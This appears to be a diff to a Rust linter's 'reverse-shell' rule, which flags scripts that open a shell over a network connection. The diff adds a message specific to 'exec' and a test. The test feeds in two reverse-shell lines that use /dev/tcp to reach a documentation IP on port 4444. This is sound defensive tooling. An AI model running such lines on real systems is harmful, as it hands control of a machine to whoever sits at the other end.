@@ -30,8 +30,11 @@ pub(super) fn check(call: &Call<'_, '_>, _: Scene, report: &mut Report<'_>) {
         INTERPRETERS.contains(&name) && connects_in_code(layer)
     };
     if gives {
-        let message =
-            format!("with this `{name}` whoever is at the other end of a connection gives the commands");
+        // What is opened for later need not be read as commands; but that is what it is opened for, as a rule.
+        let message = match name {
+            "exec" => "this opens a connection over which another machine can give commands".to_owned(),
+            _ => format!("with this `{name}` whoever is at the other end of a connection gives the commands"),
+        };
         let finding = report.in_text(call.text, layer.head.span, message);
         finding.help = Some("leave it out: no build needs a shell that another machine commands".to_owned());
     }
@@ -109,4 +112,20 @@ fn connects_in_code(layer: &Layer<'_>) -> bool {
     layer.literals().any(|code| {
         SOCKETS.iter().any(|text| code.contains(text)) && STARTS.iter().any(|text| code.contains(text))
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::lint::testing::lint_of;
+
+    #[test]
+    fn a_connection_that_is_only_opened_is_not_said_to_give_commands() {
+        let said = |script: &str| {
+            let findings = lint_of(script);
+            let ours = findings.iter().find(|finding| finding.rule == "reverse-shell");
+            ours.map(|finding| finding.message.clone()).unwrap_or_default()
+        };
+        assert!(said("exec 5<>/dev/tcp/203.0.113.7/4444").contains("this opens a connection"));
+        assert!(said("bash <> /dev/tcp/203.0.113.7/4444").contains("with this `bash` whoever"));
+    }
 }
